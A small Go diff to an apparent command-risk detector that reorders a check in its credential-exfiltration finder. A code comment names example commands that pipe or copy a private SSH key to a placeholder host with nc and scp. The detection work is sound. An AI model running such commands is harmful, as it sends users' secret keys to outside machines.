@@ -68,10 +68,13 @@ func readsCredential(c Command, env paths.Env) bool {
 func (k *Knowledge) exfil(out []risk.Finding, fl *flows, cred []bool) []risk.Finding {
 	var m *memo
 	for i, c := range fl.cmds {
-		if len(c.Args) == 0 || c.Dynamic[0] || !k.down[commandName(c.Args[0])] {
+		if len(c.Args) == 0 || c.Dynamic[0] {
 			continue
 		}
 		name := commandName(c.Args[0])
+		if !k.down[name] {
+			continue
+		}
 		src := -1
 		if cred[i] && name != "curl" && name != "wget" {
 			src = i // nc host < ~/.ssh/id_rsa, scp ~/.ssh/id_rsa host:
